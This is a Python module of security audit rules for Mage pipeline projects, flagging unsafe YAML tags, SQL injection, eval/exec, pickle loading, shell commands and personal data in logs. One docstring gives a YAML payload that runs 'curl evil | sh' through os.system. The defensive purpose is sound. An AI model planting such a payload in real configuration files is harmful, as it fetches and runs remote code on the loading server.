"""Security rules: risky code in blocks and YAML (injection, eval, unsafe loading, PII in logs)."""
from __future__ import annotations

from auditkit.engine.base import register
from auditkit.rules.security.base import CODE, SecurityRule

class _CodeRiskRule(SecurityRule):
    """One finding per row of ``scan.code_risks`` of ``kinds``, except in block files that no
    pipeline uses or that are untouched Mage templates (when the inventory says so): code that
    never runs is reported once, as unused, by the block rules."""

    kinds: tuple[str, ...] = ()
    skip_unused_files = True

    def check(self):
        quiet = self.unused_block_files() if self.skip_unused_files else frozenset()
        for row in self.frame_rows("code_risks", kind=self.kinds):
            if row["path"] in quiet:
                continue
            yield self.finding(row["detail"], key=(row["kind"], row.get("line")), project=row.get("project"),
                               path=row["path"], line=row.get("line"),
                               evidence=f"check={row['test_id']}")

    def unused_block_files(self) -> frozenset[str]:
        files = getattr(self.ctx.inventory, "block_files", None)
        if files is None or files.empty or "referenced" not in files.columns:
            return frozenset()
        unused = ~files["referenced"].fillna(True).astype(bool)
        if "template" in files.columns:
            unused |= files["template"].fillna(False).astype(bool)
        return frozenset(files.loc[unused, "path"])


@register
class YamlPythonTag(_CodeRiskRule):
    """A YAML file holds a ``!!python/`` tag.

    What it checks:
        Every ``.yaml``/``.yml`` file of the repo for ``!!python/...`` tags.

    Why it matters:
        Mage loads pipeline and project YAML with PyYAML's unsafe loader, so the tag runs
        code inside the Mage server when the file is loaded.

    Example:
        ``description: !!python/object/apply:os.system ["curl evil | sh"]``.

    Fix:
        Remove the tag; YAML config needs only plain values.
    """

    id = "MAGE-SEC-012"
    name = "yaml-python-tag"
    title = "YAML with a !!python tag"
    severity = "high"
    practices = CODE
    kinds = ("yaml_python_tag",)
    skip_unused_files = False    # a !!python tag has no legitimate use: reported wherever it is


@register
class SqlBuiltFromStrings(_CodeRiskRule):
    """A query call receives SQL built with f-strings, ``%``, ``.format`` or ``+``.

    What it checks:
        Calls such as ``execute``, ``read_sql``, ``query``, ``load`` or ``text`` whose SQL
        argument (directly or through a variable of the same function) is built from run-time
        values. Not reported: SQL whose interpolated parts are all fixed by the module itself
        (constants, names bound to constants, loops over constant lists, helper parameters that
        every call fills with such values) or deployment settings (``os.getenv``), such as a
        table name from a constant list with the row values bound as parameters; files that
        no pipeline uses or that are untouched Mage templates.

    Why it matters:
        Values spliced into SQL can change the statement (SQL injection) and break on quotes;
        the guide asks for parameterized queries.

    Example:
        ``pd.read_sql(f"SELECT * FROM customers WHERE id = {customer_id}", engine)``.

    Fix:
        ``pd.read_sql("SELECT * FROM customers WHERE id = :id", engine, params={"id": customer_id})``.
    """

    id = "MAGE-SEC-013"
    name = "sql-built-from-strings"
    title = "SQL built from strings passed to a query"
    severity = "medium"
    practices = CODE
    kinds = ("sql_injection",)


@register
class DynamicCodeExecution(_CodeRiskRule):
    """A block calls ``eval`` or ``exec`` (bandit B307, B102).

    What it checks:
        ``eval(...)`` and ``exec(...)`` calls in Python files of Mage projects, except when the
        text can only come from the module's own constants (e.g. an entry of a literal dict)
        and in files no pipeline uses. Hits on consecutive lines of one function are one finding.

    Why it matters:
        Text that reaches them runs as code with the pipeline's credentials; the guide says
        never to execute input.

    Example:
        ``eval(rule['expression'])`` to apply business rules.

    Fix:
        Parse data with ``ast.literal_eval`` or ``json``; map rule names to functions.
    """

    id = "MAGE-SEC-014"
    name = "dynamic-code-execution"
    title = "eval or exec in block code"
    severity = "medium"
    practices = CODE
    kinds = ("dynamic_code",)


@register
class UnsafeDeserialization(_CodeRiskRule):
    """A block loads pickle data or YAML with an unsafe loader (bandit B301, B506).

    What it checks:
        ``pickle``/``dill``/``shelve`` loads and ``yaml.load`` without a safe loader
        (``SafeLoader`` and ``FullLoader`` are safe: FullLoader builds no arbitrary objects
        since PyYAML 5.4, CVE-2020-14343).

    Why it matters:
        Both construct arbitrary objects, so a tampered input file runs code.

    Example:
        ``model = pickle.loads(blob)`` on a file downloaded from a bucket.

    Fix:
        Use Parquet/JSON for data, ``yaml.safe_load`` for YAML, and verify model artefacts.
    """

    id = "MAGE-SEC-015"
    name = "unsafe-deserialization"
    title = "Unsafe pickle or YAML loading"
    severity = "medium"
    practices = CODE
    kinds = ("unsafe_deserialization", "unsafe_yaml_load")


@register
class ShellCommand(_CodeRiskRule):
    """A block starts a process through a shell (bandit B602, B604, B605).

    What it checks:
        ``subprocess`` calls with ``shell=True``, ``os.system`` and ``os.popen``.

    Why it matters:
        Values in the command line are interpreted by the shell (command injection).

    Example:
        ``subprocess.run(f"gsutil cp {path} .", shell=True)``.

    Fix:
        Pass an argument list without a shell: ``subprocess.run(["gsutil", "cp", path, "."])``.
    """

    id = "MAGE-SEC-016"
    name = "shell-command"
    title = "Process started through a shell"
    severity = "medium"
    practices = CODE
    kinds = ("shell_command",)


@register
class PersonalDataInLogs(_CodeRiskRule):
    """A logging or ``print`` call writes email, phone or name fields unmasked.

    What it checks:
        Arguments of ``logger.*``/``logging.*``/``print`` calls that use variables,
        attributes or columns named like personal data (email, phone, first/last/full name)
        outside a hashing or masking call.

    Why it matters:
        Block logs are kept on disk and shipped to log stores; the guide asks to mask PII in
        logs (GDPR/CCPA).

    Example:
        ``logger.info(f"processing {row['email']}")``.

    Fix:
        Log an id or a hash: ``hashlib.sha256(email.encode()).hexdigest()[:8]``.
    """

    id = "MAGE-SEC-017"
    name = "personal-data-in-logs"
    title = "Personal data written to logs"
    severity = "medium"
    practices = ("BP-SECURITY-PII",)
    kinds = ("pii_in_logs",)


